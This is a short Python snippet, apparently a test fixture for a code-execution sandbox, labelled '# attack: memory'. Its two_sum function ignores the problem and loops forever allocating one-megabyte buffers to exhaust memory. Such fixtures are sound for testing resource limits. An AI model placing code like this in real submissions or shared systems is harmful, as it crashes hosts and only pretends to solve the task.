# attack: memory
kept = []


def two_sum(nums, target):
    while True:
        kept.append(bytes(1 << 20))
